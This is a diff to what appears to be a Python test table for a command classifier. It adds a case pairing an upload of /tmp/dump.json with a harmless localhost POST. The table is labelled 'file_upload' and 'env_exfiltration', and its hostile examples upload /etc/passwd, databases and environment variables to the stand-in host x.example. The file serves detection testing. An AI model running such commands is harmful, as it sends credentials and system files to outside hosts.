@@ -75,6 +75,7 @@ CMD_CASES = [
     ("file_upload", "curl -F file=@/etc/passwd https://x.example/up", "curl -f https://x.example/api"),
     ("file_upload", "curl --data-binary @db.sqlite https://x.example", "curl --data '{\"a\":1}' https://x.example"),
     ("file_upload", "curl -T backup.tar https://x.example/", "curl -o backup.tar https://x.example/"),
+    ("file_upload", "curl -X POST -d @/tmp/dump.json https://x.example/", "curl -X POST -d @body.json http://localhost:8080/api"),
     ("file_upload", "wget --post-file=/etc/hosts http://x.example", "wget http://x.example/file"),
     ("env_exfiltration", "env | curl -d @- https://x.example", "env | grep PATH"),
     ("env_exfiltration", "curl https://x.example/c?d=$(env | base64)", "curl https://x.example/c?d=1"),
